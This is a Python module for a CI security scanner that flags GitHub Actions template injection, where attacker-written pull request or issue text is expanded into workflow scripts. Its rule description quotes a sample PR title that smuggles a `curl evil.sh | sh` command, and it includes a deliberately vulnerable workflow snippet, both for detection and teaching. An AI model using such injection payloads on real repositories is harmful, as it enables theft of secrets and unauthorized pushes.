"""workflows/template-injection: attacker-written text expanded into a script (G1)."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import PurePosixPath

from aisec_ci.findings import Finding
from aisec_ci.rules import Rule
from aisec_ci.scanners.base import SkipFile
from aisec_ci.scanners.workflows.contexts import Tier, classify, output_tier
from aisec_ci.scanners.workflows.expressions import find_expressions
from aisec_ci.scanners.workflows.loader import Node, load_yaml
from aisec_ci.scanners.workflows.model import PULL_REQUEST_TRIGGERS, Step, WorkflowDoc
from aisec_ci.severity import Severity
from aisec_ci.workspace.reading import UnreadableFile, read_bounded_text

TEMPLATE_INJECTION = Rule(
    id="workflows/template-injection",
    name="Template injection in a workflow script",
    short_description="A `${{ }}` expression with attacker-controlled text is pasted into a `run:` or github-script.",
    severity=Severity.HIGH,
    what="Finds `${{ }}` expressions inside `run:` scripts and script inputs of actions that execute them "
    "(`actions/github-script` `script:`, `azure/cli` `inlineScript:`, `appleboy/ssh-action` `script:` ...) that "
    "read text someone else controls: pull request and issue titles and bodies, comments, review bodies, "
    "fork branch names (`github.head_ref`), commit messages; at low severity, text people with write access "
    "choose: tag and branch names, and `inputs.*` of `workflow_dispatch`, `workflow_call` and composite "
    "actions. Values reached through `env.*` are followed, and so are the outputs of actions that copy "
    "pull request file or branch names (the file lists of `tj-actions/changed-files` or `dorny/paths-filter`, "
    "not their `true`/`false` flags or counts; `docker/metadata-action` labels but not its tags or version). "
    "Attacker text passed in `with:` to a local composite action that expands that input in its script is "
    "reported at the caller.",
    why="GitHub substitutes the expression into the script text before the shell or Node runs it, so a PR "
    'titled `x"; curl evil.sh | sh; echo "` becomes part of the command. Under `pull_request_target`, '
    "`issue_comment` or `workflow_run` the script runs with the repository's secrets and a write token: "
    "anyone on GitHub can steal them or push to the repository.",
    example="on: pull_request_target\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n"
    '      - run: echo "Thanks for ${{ github.event.pull_request.title }}"',
    example_language="yaml",
    fix="Pass the value through an environment variable and quote it in the script: "
    '`env: {TITLE: "${{ github.event.pull_request.title }}"}` then `run: echo "$TITLE"`. '
    "In github-script read `context.payload` instead of expanding expressions.",
    tags=("CWE-94", "CWE-78", "ci"),
    precision="high",
    references=("https://securitylab.github.com/resources/github-actions-untrusted-input/",),
)

RULES = (TEMPLATE_INJECTION,)

# Action inputs whose text the action runs as a script (the `run:` of other actions).
_CODE_INPUTS: dict[str, tuple[str, ...]] = {
    "actions/github-script": ("script",),
    "azure/cli": ("inlineScript",),
    "azure/powershell": ("inlineScript",),
    "appleboy/ssh-action": ("script",),
    "nick-fields/retry": ("command",),
    "nick-invision/retry": ("command",),
    "addnab/docker-run-action": ("run",),
    "mathiasvr/command-output": ("run",),
    "jannekem/run-python-script-action": ("script",),
}
_SAFE_INPUT_TYPES = frozenset({"boolean", "number", "choice", "environment"})
_ENV_DEPTH = 3


@dataclass(frozen=True)
class _Taint:
    tier: Tier
    ref: str
    """The attacker/writer context finally reached."""
    via: str
    """The reference written in the script, when it differs from `ref` (env or step output)."""


def check(doc: WorkflowDoc) -> Iterator[Finding]:
    source = doc.file.text
    for step in doc.all_steps():
        for sink, what in _sinks(step):
            raw = source[sink.start : sink.end]
            exprs = find_expressions(sink.value)
            raw_positions = _positions(raw)
            exact = len(raw_positions) == len(exprs)
            for n, expr in enumerate(exprs):
                worst: _Taint | None = None
                for ref in expr.refs:
                    taint = _taint(doc, step, ref, 0)
                    if taint is not None and (worst is None or taint.tier > worst.tier):
                        worst = taint
                if worst is None:
                    continue
                line, column = sink.line, sink.column
                if exact:
                    pos = raw_positions[n]
                    nl = raw.count("\n", 0, pos)
                    line = sink.line + nl
                    column = sink.column + pos if nl == 0 else pos - raw.rfind("\n", 0, pos)
                yield _finding(doc, step, sink, what, expr.body, worst, line, column)
        yield from _forwarded_to_local_action(doc, step)


# A composite action reports its own `inputs.*` as low (callers set them); a caller in the same
# repository that passes pull request text into such an input is where the injection is decided.
_ACTION_FILE_LIMIT = 1 << 20


def _forwarded_to_local_action(doc: WorkflowDoc, step: Step) -> Iterator[Finding]:
    uses = step.uses
    with_ = step.with_
    if uses is None or uses.kind != "local" or with_ is None or not with_.is_map:
        return
    expanded: set[str] | None = None
    for name, _, value in with_.entries():
        if not value.is_scalar:
            continue
        for expr in find_expressions(value.value):
            taint = next(
                (t for ref in expr.refs if (t := _taint(doc, step, ref, 0)) is not None and t.tier is Tier.ATTACKER),
                None,
            )
            if taint is None:
                continue
            if expanded is None:
                expanded = _inputs_expanded_by(doc, uses.path)
            if name.lower() not in expanded:
                break
            yield doc.finding(
                TEMPLATE_INJECTION,
                value,
                f"`${{{{ {expr.body} }}}}` is passed as input `{name}` of the local action `{uses.path}` in step "
                f"'{step.name}', whose script expands `inputs.{name}`: it reads `{taint.ref}`, text anyone who "
                "opens an issue or pull request can write"
                + (
                    f"; this workflow runs with secrets and a write token ({', '.join(doc.privileged_triggers)})"
                    if doc.privileged_triggers
                    else ""
                )
                + ". Pass it to the action through an environment variable it reads instead.",
                severity=_severity(doc, taint),
                key=f"{doc.step_key(step)}:with:{name}:{expr.body}",
                properties={"context": taint.ref, "via": f"{uses.path} input {name}", "tier": "attacker"},
            )
            break


def _inputs_expanded_by(doc: WorkflowDoc, action_path: str) -> set[str]:
    """Lower-case names of the inputs a local composite action pastes into its scripts."""
    rel = PurePosixPath(doc.file.path)
    root = doc.file.abspath.parents[len(rel.parts) - 1] if len(rel.parts) >= 1 else doc.file.abspath.parent
    target = (root / action_path).resolve()
    if not target.is_relative_to(root.resolve()):
        return set()
    for name in ("action.yml", "action.yaml"):
        try:
            node = load_yaml(read_bounded_text(target / name, _ACTION_FILE_LIMIT))
        except (UnreadableFile, SkipFile, OSError):
            continue
        runs = node.get("runs") if node is not None and node.is_map else None
        steps = runs.get("steps") if runs is not None and runs.is_map else None
        if steps is None or not steps.is_seq:
            return set()
        out: set[str] = set()
        for item in steps.items:
            if not item.is_map:
                continue
            scripts = [item.get("run")]
            uses_text = item.text("uses") or ""
            with_node = item.get("with")
            for slug, keys in _CODE_INPUTS.items():
                if uses_text.lower().startswith(slug + "@") and with_node is not None and with_node.is_map:
                    scripts += [with_node.get(k) for k in keys]
            for script in scripts:
                if script is None or not script.is_scalar:
                    continue
                for expr in find_expressions(script.value):
                    out.update(
                        ref.split(".")[1] for ref in expr.refs if ref.startswith("inputs.") and ref.count(".") >= 1
                    )
        return out
    return set()


def _sinks(step: Step) -> list[tuple[Node, str]]:
    out: list[tuple[Node, str]] = []
    run = step.run
    if run is not None:
        out.append((run, "run"))
    uses = step.uses
    if uses is not None and uses.kind == "repo":
        for name in _CODE_INPUTS.get(uses.slug, ()):
            script = step.input(name)
            if script is not None and script.is_scalar:
                out.append((script, name))
    return out


def _positions(raw: str) -> list[int]:
    out: list[int] = []
    pos = raw.find("${{")
    while pos != -1:
        out.append(pos)
        pos = raw.find("${{", pos + 3)
    return out


def _taint(doc: WorkflowDoc, step: Step, ref: str, depth: int) -> _Taint | None:
    head, _, rest = ref.partition(".")
    if head == "env" and rest and depth < _ENV_DEPTH:
        return _env_taint(doc, step, rest.split(".", 1)[0], ref, depth)
    if head == "steps" and rest:
        return _step_output_taint(doc, step, ref)
    if head == "inputs" or ref.startswith("github.event.inputs."):
        name = ref.split(".")[-1] if head == "inputs" else ref.split(".")[3] if ref.count(".") >= 3 else ""
        if _input_type(doc, name) in _SAFE_INPUT_TYPES:
            return None
    tier = classify(ref)
    return _Taint(tier, ref, "") if tier is not Tier.NONE else None


def _env_taint(doc: WorkflowDoc, step: Step, name: str, written: str, depth: int) -> _Taint | None:
    scopes = [step.node.get("env")]
    if step.job is not None:
        scopes.append(step.job.node.get("env"))
        scopes.append(doc.root.get("env"))
    for scope in scopes:
        if scope is None or not scope.is_map:
            continue
        # Environment names are case-insensitive on the runner's side of GitHub's lookup.
        value = scope.get(name) or next((v for k, _, v in scope.entries() if k.lower() == name), None)
        if value is None:
            continue
        if not value.is_scalar:
            return None
        worst: _Taint | None = None
        for expr in find_expressions(value.value):
            for ref in expr.refs:
                inner = _taint(doc, step, ref, depth + 1)
                if inner is not None and (worst is None or inner.tier > worst.tier):
                    worst = inner
        if worst is None:
            return None
        return _Taint(worst.tier, worst.ref, written)
    return None


def _step_output_taint(doc: WorkflowDoc, step: Step, ref: str) -> _Taint | None:
    parts = ref.split(".")
    if len(parts) < 3 or parts[2] != "outputs":
        return None
    other = doc.step_by_id(step.job, parts[1])
    uses = other.uses if other is not None else None
    if uses is None or uses.kind != "repo":
        return None
    tier = output_tier(uses.slug, parts[3] if len(parts) > 3 else None)
    if tier is Tier.NONE:
        return None
    # File and branch names come from a pull request only on events a pull request causes.
    if tier is Tier.ATTACKER and not (doc.is_action or doc.triggers.keys() & PULL_REQUEST_TRIGGERS):
        return None
    return _Taint(tier, f"{uses.slug} output", ref)


def _input_type(doc: WorkflowDoc, name: str) -> str:
    """Declared type of a workflow/action input; '' when unknown (treated as free text)."""
    if doc.is_action:
        return ""
    types: set[str] = set()
    for event in ("workflow_dispatch", "workflow_call"):
        cfg = doc.triggers.get(event)
        inputs = cfg.get("inputs") if cfg is not None else None
        if inputs is None or not inputs.is_map:
            continue
        for key, _, value in inputs.entries():
            if key.lower() == name:
                types.add((value.text("type") or "string").lower() if value.is_map else "string")
    if types and types <= _SAFE_INPUT_TYPES:
        return next(iter(types))
    return ""


def _severity(doc: WorkflowDoc, taint: _Taint) -> Severity:
    if taint.tier is Tier.ATTACKER:
        return Severity.CRITICAL if doc.privileged_triggers and not doc.is_action else Severity.HIGH
    if taint.ref.startswith("github.event.client_payload"):
        return Severity.MEDIUM
    # Workflow and action inputs: low (see `_is_input`).
    return Severity.LOW


def _is_input(ref: str) -> bool:
    """`inputs.*` of workflow_dispatch / workflow_call / a composite action, and `github.event.inputs.*`.

    Only people with write access dispatch a workflow, and only workflows of the repository (or of
    repositories that chose to call it) pass `workflow_call` or action inputs: the value is theirs, not
    an outsider's. A caller could still forward pull request text into one, which this file cannot see.
    """
    return ref.startswith(("inputs.", "github.event.inputs."))


def _finding(
    doc: WorkflowDoc, step: Step, sink: Node, what: str, body: str, taint: _Taint, line: int, column: int
) -> Finding:
    where = "the `run:` script" if what == "run" and step.run is not None else f"the `{what}:` script input"
    owner = f" (job `{step.job.id}`)" if step.job is not None else ""
    via = f" (through `{taint.via}`)" if taint.via else ""
    if taint.tier is Tier.ATTACKER:
        who = "text anyone who opens an issue or pull request can write"
        if doc.privileged_triggers and not doc.is_action:
            who += f"; this workflow runs with secrets and a write token ({', '.join(doc.privileged_triggers)})"
    elif _is_input(taint.ref):
        who = (
            "a free-text input, which only people with write access set (by dispatching or calling the "
            "workflow, or using the action), so this is low unless a caller forwards pull request text into it"
        )
    elif taint.ref.startswith("github.event.client_payload"):
        who = "free-text payload from whoever sends the repository_dispatch event"
    else:
        who = "text people with write access choose (a branch, tag, release or label name), which may hold shell syntax"
    message = (
        f"`${{{{ {body} }}}}` is expanded into {where} of step '{step.name}'{owner}{via}: it reads "
        f"`{taint.ref}`, {who}. Pass it through an environment variable instead."
    )
    return doc.finding(
        TEMPLATE_INJECTION,
        sink,
        message,
        severity=_severity(doc, taint),
        key=f"{doc.step_key(step)}:{what}:{body}",
        properties={
            "context": taint.ref,
            "via": taint.via,
            "tier": taint.tier.name.lower(),
            "confidence": "medium" if taint.via else "high",
        },
        line=line,
        column=column,
    )
